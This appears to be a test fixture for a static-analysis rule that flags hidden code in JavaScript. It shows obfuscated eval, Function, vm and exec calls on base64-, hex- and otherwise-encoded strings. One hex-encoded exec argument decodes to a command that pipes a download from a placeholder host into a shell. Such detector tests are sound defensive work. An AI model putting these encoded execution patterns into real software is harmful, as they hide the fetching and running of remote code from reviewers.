// @ts-nocheck fixture
import { exec, execFile } from "node:child_process"
import vm from "node:vm"
import zlib from "node:zlib"

const settings = "Y29uc29sZS5sb2coMSk="

export function start() {
  // ruleid: no-hidden-code
  eval(atob("Y29uc29sZS5sb2coMSk="))
  // ruleid: no-hidden-code
  new Function(Buffer.from(settings, "base64").toString("utf8"))()
  // ruleid: no-hidden-code
  vm.runInThisContext(zlib.inflateSync(Buffer.from("eJxLzs8rzs9J1UvKSQcAG3wEUw==", "base64")).toString())
  // ruleid: no-hidden-code
  exec(Buffer.from("6375726c206578616d706c652e6f7267207c207368", "hex").toString(), done)
  // ruleid: no-hidden-code
  eval(String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41))
  // ruleid: no-hidden-code
  eval(unescape("%61%6c%65%72%74%28%31%29"))
  // ruleid: no-hidden-code
  eval(")1(trela".split("").reverse().join(""))
}

function text(written) {
  return Buffer.from(written, "hex").toString()
}

// ruleid: no-hidden-code
const data = require(text("2e2f746573742f64617461"))
// ruleid: no-hidden-code
const more = import(Buffer.from("Li9tb3JlLmpz", "base64").toString())

export function run(job) {
  // ok: no-hidden-code
  execFile(process.execPath, ["-e", "console.log(1)"], done)
  // ok: no-hidden-code
  exec(Buffer.from(job.command, "base64").toString(), done)
  // ok: no-hidden-code
  const key = Buffer.from("2e2f746573742f64617461", "hex")
  // ok: no-hidden-code
  return require(decodeURIComponent("./plain/name.js"))(key, data, more)
}

function done() {}
